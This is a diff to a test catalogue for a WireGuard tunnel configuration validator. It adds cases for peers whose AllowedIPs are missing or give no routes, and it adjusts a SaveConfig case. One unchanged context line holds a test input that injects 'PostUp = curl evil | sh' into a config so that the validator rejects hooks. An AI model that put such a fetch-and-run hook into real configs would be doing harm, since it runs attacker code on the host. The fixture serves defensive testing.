@@ -110,7 +110,7 @@ export const CATALOGUE: Case[] = [
   tun({ config: conf.replace("[Peer]", "PostUp = curl evil | sh\n\n[Peer]") }, "config", "hooks-not-allowed", "provider conf with PostUp"),
   tun({ config: conf.replace(/^PrivateKey.*$/m, "") }, "config", "private-key", "conf without PrivateKey"),
   tun({ config: conf.replace(/^AllowedIPs.*$/m, "AllowedIPs = 0.0.0.0/0\nFoo = bar") }, "config:line 9", "unknown-key", "unknown key in [Peer]"),
-  tun({ config: "[Interface]\nSaveConfig = true\nPrivateKey = " + K.privateKey + "\nAddress = 10.0.0.2/32\n[Peer]\nPublicKey = " + S.publicKey + "\n" }, "config", "save-config", "SaveConfig = true"),
+  tun({ config: "[Interface]\nSaveConfig = true\nPrivateKey = " + K.privateKey + "\nAddress = 10.0.0.2/32\n[Peer]\nPublicKey = " + S.publicKey + "\nAllowedIPs = 0.0.0.0/0\n" }, "config", "save-config", "SaveConfig = true"),
   tun({ table: "main" }, "table", "reserved-table", "the main table for a split tunnel"),
   tun({ table: "off" }, "table", "split-table", "table off for split tunnel"),
   tun({ table: "4294967296" }, "table", "table", "table number over 2^32-1"),
@@ -255,6 +255,8 @@ export const HARDENING_III_PROVIDER: Case[] = cls("19.4 provider confs", [
   tun({ config: `${conf}\n[Peer]\nPublicKey = ${generateKeyPair().publicKey}\nEndpoint = 198.51.100.11:51820\nAllowedIPs = 0.0.0.0/0\n` }, "config.peers[1].allowedIps[0]", "duplicate-allowed-ips", "the same AllowedIPs on two peers"),
   tun({ config: conf.replace("[Peer]", "Table = off\n\n[Peer]") }, "config", "table-off", "Table = off without table"),
   tun({ config: conf.replace("[Peer]", "Table = 1234\n\n[Peer]") }, "config", "table-without-rules", "a numbered Table without table"),
+  tun({ config: conf.replace(/^AllowedIPs = .*\n/m, "") }, "config", "no-routes", "a peer without AllowedIPs"),
+  tun({ config: conf.replace(/^AllowedIPs = .*$/m, "AllowedIPs = 10.64.0.2/32") }, "config", "no-routes", "AllowedIPs only the tunnel's own address"),
   tun({ config: noEndpoint }, "config.peers[0].endpoint", "no-handshake", "a peer without Endpoint"),
   tun({ config: noEndpoint.replace("[Peer]", "ListenPort = 51820\n\n[Peer]"), publishPorts: [{ internal: 51820 }] }, "config.peers[0].endpoint", "no-handshake", "ListenPort published over TCP only"),
 ]);
